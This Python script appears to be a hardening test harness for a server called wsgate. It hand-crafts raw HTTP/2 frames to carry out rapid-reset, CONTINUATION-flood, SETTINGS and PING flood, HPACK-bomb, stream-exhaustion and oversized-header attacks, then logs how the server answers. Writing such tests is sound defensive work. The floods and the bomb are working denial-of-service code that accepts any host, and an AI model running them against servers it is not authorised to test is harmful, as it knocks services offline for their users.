"""HTTP/2 abuse, frame by frame, against wsgate: the attacks of the h2
hardening table (docs/security.md), each on its own connection.

Usage: python h2_hostile.py HOST PORT ATTACK
ATTACK: rapid_reset | continuation | settings_flood | ping_flood |
        hpack_bomb | too_many_streams | oversized_headers

Frames are built by hand (the `h2` package would refuse to send most of
them); header blocks are encoded with `hpack`, which `h2` ships with.
Prints one JSON line: how the server answered (GOAWAY code and debug data,
resets by code, statuses, whether it closed the connection).
"""

import json
import socket
import ssl
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, REFUSED_STREAM = 0x8, 0x7


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Raw:
    """One TLS connection speaking raw HTTP/2 frames."""

    def __init__(self, host, port):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        self.sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=10),
                                    server_hostname="localhost")
        assert self.sock.selected_alpn_protocol() == "h2"
        self.authority = f"localhost:{port}"
        self.buf = b""
        self.closed = False
        self.encoder, self.decoder = hpack.Encoder(), hpack.Decoder()
        self.goaway = None
        self.resets = {}
        self.statuses = []
        self.send(PREFACE + frame(SETTINGS, 0, 0) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.wait(lambda f: f[0] == SETTINGS and not f[1] & ACK)

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def request_block(self, path="/", extra=()):
        headers = [(":method", "GET"), (":scheme", "https"), (":path", path),
                   (":authority", self.authority)] + list(extra)
        return self.encoder.encode(headers)

    def frames(self, seconds):
        """Frames that arrive within `seconds` (fewer if the server closes)."""
        self.sock.settimeout(seconds)
        try:
            chunk = self.sock.recv(1 << 16)
        except socket.timeout:
            return []
        except OSError:
            chunk = b""
        if not chunk:
            self.closed = True
            return []
        self.buf += chunk
        out = []
        while len(self.buf) >= 9:
            n = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + n:
                break
            f = (self.buf[3], self.buf[4], int.from_bytes(self.buf[5:9], "big") & 0x7FFFFFFF, self.buf[9:9 + n])
            self.buf = self.buf[9 + n:]
            self.note(f)
            out.append(f)
        return out

    def note(self, f):
        kind, flags, stream, payload = f
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            code = int.from_bytes(payload[4:8], "big")
            self.goaway = {"code": code, "debug": payload[8:].decode("utf-8", "replace")}
        elif kind == RST_STREAM:
            code = int.from_bytes(payload[:4], "big")
            self.resets[code] = self.resets.get(code, 0) + 1
        elif kind == HEADERS:
            headers = dict(self.decoder.decode(payload))
            status = headers.get(b":status", headers.get(":status"))
            self.statuses.append(int(status))

    def wait(self, done=lambda f: False, seconds=10):
        """Reads until `done(frame)`, the server closes, or `seconds` pass."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            for f in self.frames(max(0.01, deadline - time.monotonic())):
                if done(f):
                    return f
        return None

    def report(self, **extra):
        return {"goaway": self.goaway, "resets": {str(k): v for k, v in self.resets.items()},
                "statuses": self.statuses, "closed": self.closed, **extra}


def rapid_reset(c):
    sent = 0
    for batch in range(50):
        out = b""
        for i in range(100):
            stream = 2 * sent + 1
            out += frame(HEADERS, END_HEADERS | END_STREAM, stream, c.request_block("/"))
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
            sent += 1
        c.send(out)
        c.frames(0.001)
        if c.closed or c.goaway:
            break
    c.wait(lambda f: f[0] == GOAWAY)
    return c.report(sent=sent)


def continuation(c):
    # A header whose value is announced long and then trickles in, one small
    # CONTINUATION frame after another, never ending the block.
    block = c.request_block("/") + b"\x40\x05x-pad" + b"\x7f" + bytes([0x80 | 0x7F, 0x80 | 0x7F, 0x03])
    c.send(frame(HEADERS, 0, 1, block))
    sent = 0
    for _ in range(200):
        c.send(frame(CONTINUATION, 0, 1, b"a" * 16))
        sent += 1
    c.wait(lambda f: f[0] == GOAWAY)
    return c.report(sent=sent)


def settings_flood(c):
    for _ in range(20):
        c.send(frame(SETTINGS, 0, 0) * 100)
    c.wait(seconds=5)
    return c.report(sent=2000)


def ping_flood(c):
    for i in range(50):
        c.send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i * 100 + j)) for j in range(100)))
    c.wait(seconds=5)
    return c.report(sent=5000)


def hpack_bomb(c):
    # One 4000-byte header added to the dynamic table, then referenced by
    # its index (62) a thousand times: ~4 MB of headers from ~5 KB.
    big = b"\x40\x06x-bomb" + b"\x7f" + bytes([(4000 - 127) % 128 | 0x80, (4000 - 127) // 128]) + b"a" * 4000
    block = c.request_block("/") + big + b"\xbe" * 1000
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
    c.wait(lambda f: f[0] == GOAWAY)
    return c.report(block_bytes=len(block))


def too_many_streams(c):
    out = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * i + 1, c.request_block("/held")) for i in range(200))
    c.send(out)
    c.wait(lambda f: sum(c.resets.values()) >= 72, seconds=10)
    return c.report(opened=200)


def oversized_headers(c):
    pads = [(f"x-pad-{i}", "v" * 1000) for i in range(100)]
    block = c.request_block("/", pads)
    # 16 KiB frames: HEADERS then CONTINUATIONs.
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    out = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), 1, pieces[0])
    for i, piece in enumerate(pieces[1:], 1):
        out += frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
    c.send(out)
    c.wait(lambda f: f[0] == HEADERS or f[0] == RST_STREAM or f[0] == GOAWAY)
    # The connection survives: a normal request on it still works.
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, c.request_block("/")))
    c.wait(lambda f: f[0] == HEADERS and f[2] == 3)
    return c.report(block_bytes=len(block))


ATTACKS = {f.__name__: f for f in [rapid_reset, continuation, settings_flood, ping_flood,
                                   hpack_bomb, too_many_streams, oversized_headers]}

if __name__ == "__main__":
    host, port, attack = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    print(json.dumps({"attack": attack, **ATTACKS[attack](Raw(host, port))}))
